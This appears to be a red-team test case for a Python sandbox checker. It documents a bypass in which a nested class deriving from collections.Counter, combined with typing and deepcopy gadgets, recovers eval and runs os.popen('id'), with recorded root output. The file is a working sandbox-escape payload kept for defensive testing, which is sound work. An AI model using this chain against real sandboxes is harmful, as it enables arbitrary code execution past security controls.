# expect: reject unbound
# line: 26
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family D: a class deriving from a library class reached by an attribute path (a class statement in a class body: Outer.Q, self.Q, Sub.Q) or beyond the table of classes the rules follow by name (the red team's program)
# Mechanism: rule unbound knows 'a program class deriving from a library class' by its NAME only 
# (program_class_libvalue, libclass_ident). A class statement nested in another class body is reached 
# as an attribute, Outer.Q; libclass_value_in asks of an attribute node only whether its object 
# resolves to a module (it does not: Outer is a program class) or the name is class-holding. So 
# Outer.Q.copy is read through what the rule takes for a program object, and is Counter.copy, a plain 
# function: Outer.Q.copy(P) runs P.__class__(P).
# Goal reached: the builtin type by value, then eval by value (the 11b end gadget), called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class Outer:
    class Q(collections.Counter):
        pass

T = Outer.Q.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
